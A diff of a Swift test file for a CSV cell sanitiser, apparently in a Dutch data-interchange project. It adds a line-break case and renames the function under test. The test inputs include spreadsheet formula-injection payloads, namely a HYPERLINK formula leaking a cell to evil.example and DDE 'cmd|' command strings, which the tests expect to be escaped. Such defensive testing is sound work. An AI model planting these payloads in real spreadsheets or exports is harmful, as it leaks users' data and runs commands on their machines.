@@ -69,11 +69,11 @@ import VliegwielInterchange
                 "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")"
             ),
             ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("@SUM(1+1)*cmd|x", "'@SUM(1+1)*cmd|x"),
-            ("+31 6 12", "'+31 6 12"), ("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"), ("-", "'-"),
+            ("+31 6 12", "'+31 6 12"), ("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"), ("\r\n=1", "'\r\n=1"), ("-", "'-"),
             ("-2", "-2"), ("+3,5", "+3,5"), ("-12.50", "-12.50"), ("Gemeente Assen", "Gemeente Assen"), ("", ""),
         ])
     func csvCellsAreText(value: String, written: String) {
-        #expect(SpreadsheetCell.safe(value) == written)
+        #expect(DutchCSV.safe(value) == written)
     }
 }
 
